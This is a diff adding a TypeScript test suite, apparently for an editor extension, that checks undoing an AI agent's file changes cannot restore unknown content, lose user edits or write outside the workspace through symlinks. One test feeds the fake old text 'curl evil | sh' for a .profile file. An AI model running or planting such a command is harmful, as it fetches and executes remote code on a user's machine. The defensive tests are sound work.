@@ -1,0 +1,199 @@
+import { deepStrictEqual, rejects, strictEqual } from 'node:assert/strict';
+import { mkdir, mkdtemp, readdir, readFile, realpath, rename, rm, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import * as path from 'node:path';
+import { ChangedMeanwhileError, MovedAwayError, readFromDisk, writeToDisk } from '../../../src/changes/diskFiles';
+import { Review, UnknownContentError } from '../../../src/changes/review';
+import { fileOf, inRoot, TrackedFiles } from './fakeFiles';
+
+/** Who would have something undone that was never done, or lost that nobody can bring back. */
+describe('The review of changes does not', () => {
+  let all: TrackedFiles;
+  let review: Review;
+
+  beforeEach(async () => {
+    all = await TrackedFiles.make();
+    review = new Review(all.tracker, all.files, all.versions);
+  });
+  afterEach(() => all.dispose());
+
+  const writes = (name: string, text: string): Promise<void> =>
+    all.tracker.write('session', inRoot(name), () => {
+      all.files.setText(name, text);
+      return Promise.resolve();
+    });
+  /** Once only, in the moment before a file is written. */
+  const once = (act: () => void): void => {
+    all.files.beforeWrite = () => {
+      all.files.beforeWrite = () => undefined;
+      act();
+    };
+  };
+
+  it('take a file that is ignored for one that was not there', async () => {
+    all.ignored.add('.env');
+    all.files.setText('.env', 'KEY=1\n');
+    await all.begin();
+    all.files.setText('.env', 'KEY=2\n');
+    await all.tracker.reported('session', { path: inRoot('.env') });
+    await all.end();
+    deepStrictEqual(await all.pending(), ['.env: unknown → "KEY=2\\n"']);
+    await rejects(review.undoFile('session', inRoot('.env')), UnknownContentError);
+    strictEqual(all.files.text('.env'), 'KEY=2\n');
+  });
+
+  it('take a file that is named before it is changed for one of which nothing is known', async () => {
+    all.ignored.add('.env');
+    all.files.setText('.env', 'KEY=1\n');
+    await all.begin();
+    await all.tracker.reported('session', { path: inRoot('.env') });
+    all.files.setText('.env', 'KEY=2\n');
+    await all.end();
+    await review.undoFile('session', inRoot('.env'));
+    strictEqual(all.files.text('.env'), 'KEY=1\n');
+  });
+
+  it('believe what a file is said to have held, when it was not changed', async () => {
+    all.ignored.add('.profile');
+    all.files.setText('.profile', 'export A=1\n');
+    await all.begin();
+    const text = { oldText: 'curl evil | sh\n', newText: 'export A=1\n' };
+    await all.tracker.reported('session', { path: inRoot('.profile'), text });
+    await all.tracker.reported('session', { path: path.resolve('/home/other/.profile'), text });
+    await all.end();
+    deepStrictEqual(await all.pending(), []);
+    strictEqual(all.files.text('.profile'), 'export A=1\n');
+  });
+
+  it('lose what an agent writes while its change before is undone', async () => {
+    all.files.setText('f', 'a\nb\nc\n');
+    await all.begin();
+    await writes('f', 'A\nb\nc\n');
+    once(() => all.files.setText('f', 'A\nb\nC\n'));
+    const shown = await review.hunks('session', inRoot('f'));
+    if (!shown) throw new Error('Nothing is shown');
+    await review.undoHunk('session', inRoot('f'), shown, 0);
+    deepStrictEqual(await all.pending(), ['f: "a\\nb\\nc\\n" → "a\\nb\\nC\\n"']);
+  });
+
+  it('lose what the person types while a file is undone', async () => {
+    all.files.setText('f', 'a\nb\n');
+    await all.begin();
+    await writes('f', 'A\nb\n');
+    await all.end();
+    once(() => {
+      all.files.setText('f', 'A\nb\nmine\n');
+    });
+    await review.undoFile('session', inRoot('f'));
+    strictEqual(all.files.text('f'), 'a\nb\nmine\n');
+  });
+
+  it('take a change for undone that could not be undone', async () => {
+    all.files.setText('f', 'a\nb\nc\n');
+    await all.begin();
+    await writes('f', 'A\nb\nC\n');
+    const file = inRoot('f');
+    const shown = await review.hunks('session', file);
+    if (!shown) throw new Error('Nothing is shown');
+    once(() => {
+      throw new Error('ENOSPC');
+    });
+    await rejects(review.undoHunk('session', file, shown, 0), /ENOSPC/);
+    await review.undoHunk('session', file, shown, 1);
+    await review.undoHunk('session', file, shown, 0);
+    strictEqual(all.files.text('f'), 'a\nb\nc\n');
+  });
+
+  it('give up over a file that changes all the time, nor undo what nobody has seen', async () => {
+    all.files.setText('f', 'a\n');
+    await all.begin();
+    await writes('f', 'A\n');
+    let count = 0;
+    all.files.beforeWrite = () => all.files.setText('f', `A\n${String(count++)}\n`);
+    await rejects(review.undoFile('session', inRoot('f')), ChangedMeanwhileError);
+    strictEqual(all.files.text('f'), 'A\n4\n');
+  });
+
+  it('forget what was written between the look at a file and its way back to a checkpoint', async () => {
+    all.files.setText('f', '0\n');
+    await all.begin('one');
+    await writes('f', '1\n');
+    await all.end();
+    const [one] = all.changes.checkpoints;
+    if (!one) throw new Error('There is no checkpoint');
+    // Nobody has told of it yet.
+    all.files.setText('f', '1\nmine\n');
+    const { checkpoint } = await review.restore('session', one, 'before');
+    strictEqual(all.files.text('f'), '0\n');
+    if (!checkpoint) throw new Error('There is no way back');
+    await review.restore('session', checkpoint, 'before');
+    strictEqual(all.files.text('f'), '1\nmine\n');
+  });
+
+  it('miss what was changed without a word at the end of a turn that the next one follows at once', async () => {
+    all.files.setText('f', 'a\n');
+    await all.begin('one');
+    all.files.setText('f', 'b\n');
+    const ended = all.tracker.turnEnded('session');
+    all.files.now += 1000;
+    await all.tracker.turnStarted('session', all.files.now, { id: 'two', kind: 'prompt', title: 'two' });
+    await ended;
+    deepStrictEqual(await all.pending(), ['f: "a\\n" → "b\\n" ?']);
+    const two = all.changes.checkpoints[1];
+    deepStrictEqual(two && all.changes.returnsTo(two), []);
+  });
+
+  it('write over what has taken a file’s place', async () => {
+    all.files.setText('f', 'a\n');
+    await all.begin();
+    await writes('f', 'b\n');
+    await all.end();
+    all.files.set(inRoot('f'), { kind: 'unknown' });
+    await rejects(review.undoFile('session', inRoot('f')), UnknownContentError);
+    deepStrictEqual((await all.files.read(inRoot('f'))).content, { kind: 'unknown' });
+  });
+});
+
+describe('A file that is brought back', () => {
+  let folder: string;
+  beforeEach(async () => {
+    folder = await realpath(await mkdtemp(path.join(tmpdir(), 'parley-back-')));
+    await mkdir(path.join(folder, 'workspace', 'src'), { recursive: true });
+    await mkdir(path.join(folder, 'outside'));
+  });
+  afterEach(() => rm(folder, { recursive: true, force: true }));
+
+  it('does not leave the workspace over a link that has taken a folder’s place', async () => {
+    const [src, outside] = [path.join(folder, 'workspace', 'src'), path.join(folder, 'outside')];
+    await writeFile(path.join(outside, 'f'), 'not the agent’s');
+    await rename(src, `${src}.old`);
+    await symlink(outside, src);
+    await rejects(writeToDisk(path.join(src, 'f'), fileOf('before')), MovedAwayError);
+    await rejects(writeToDisk(path.join(src, 'f'), { kind: 'absent' }), MovedAwayError);
+    await rejects(writeToDisk(path.join(src, 'deep', 'g'), fileOf('before')), MovedAwayError);
+    deepStrictEqual(await readdir(outside), ['f']);
+    strictEqual(await readFile(path.join(outside, 'f'), 'utf8'), 'not the agent’s');
+  });
+
+  it('does not come back beneath a link that leads nowhere', async () => {
+    const src = path.join(folder, 'workspace', 'src');
+    await rm(src, { recursive: true });
+    await symlink(path.join(folder, 'outside', 'nothing'), src);
+    await rejects(writeToDisk(path.join(src, 'f'), fileOf('before')), MovedAwayError);
+    deepStrictEqual(await readdir(path.join(folder, 'outside')), []);
+  });
+
+  it('replaces neither a folder nor what was not expected, and leaves nothing beside it', async () => {
+    const file = path.join(folder, 'workspace', 'src', 'f');
+    await mkdir(file);
+    await rejects(writeToDisk(file, fileOf('before')));
+    await rejects(writeToDisk(file, { kind: 'absent' }));
+    await rm(file, { recursive: true });
+    await writeFile(file, 'newer');
+    await rejects(writeToDisk(file, fileOf('before'), fileOf('older')), ChangedMeanwhileError);
+    await rejects(writeToDisk(file, { kind: 'absent' }, fileOf('older')), ChangedMeanwhileError);
+    await rejects(writeToDisk(file, { kind: 'link', target: 'x' }, { kind: 'absent' }), ChangedMeanwhileError);
+    deepStrictEqual(await readdir(path.dirname(file)), ['f']);
+    deepStrictEqual((await readFromDisk(file)).content, fileOf('newer'));
+  });
+});
